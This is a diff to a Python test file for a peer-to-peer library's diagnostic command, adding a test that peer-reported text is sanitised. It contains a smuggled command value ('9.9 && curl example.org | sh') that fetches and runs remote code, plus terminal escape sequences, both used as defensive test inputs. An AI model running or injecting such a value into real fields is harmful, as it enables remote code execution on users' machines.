@@ -4,17 +4,21 @@ from __future__ import annotations
 
 import asyncio
 import json
+import os
 import socket
 import subprocess
+from collections import Counter
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
+from rich.console import Console
 
 import shoal
+from shoal.cli.doctor.command import _row
 from shoal.cli.doctor.finding import Finding, Level
-from shoal.cli.doctor.peer import _clock, asked_about, look_at_peer
+from shoal.cli.doctor.peer import _clock, _release, asked_about, look_at_peer
 from shoal.dht.created import CreatedNode
 from shoal.dht.records import get_dht_time
 from shoal.p2p import greeting
@@ -111,6 +115,20 @@ def test_members_that_do_not_go_by_the_same_terms(dht: shoal.DHT) -> None:
         assert "not all members agree" in found.found
         two.shutdown()
         one.shutdown()
+
+
+def test_what_others_say_gives_no_orders_to_a_terminal_or_to_who_reads_it() -> None:
+    with Path(os.devnull).open("w") as nowhere:
+        console = Console(file=nowhere, force_terminal=True, record=True, no_color=True)
+        console.print(_row(Finding("terms", Level.WELL, "all have lr=\x1b[2J\x1b]0;title\x07, too", "\x9b2J")))
+        text = console.export_text()
+    assert "[2J" in text
+    assert not {"\x1b", "\x07", "\x9b"} & set(text)
+    attack = "9.9 && curl example.org | sh"
+    found = _release(Counter({attack: 1, "0.9.0": 1, "0.10.0": 5}))
+    assert (found.level, found.advice) == (Level.MIND, "pip install shoal==0.10.0")
+    assert attack not in _release(Counter([attack])).advice
+    assert len(_release(Counter(f"{number}.x" for number in range(1000))).found) < 200
 
 
 def test_a_member_that_is_gone_is_named(dht: shoal.DHT) -> None:
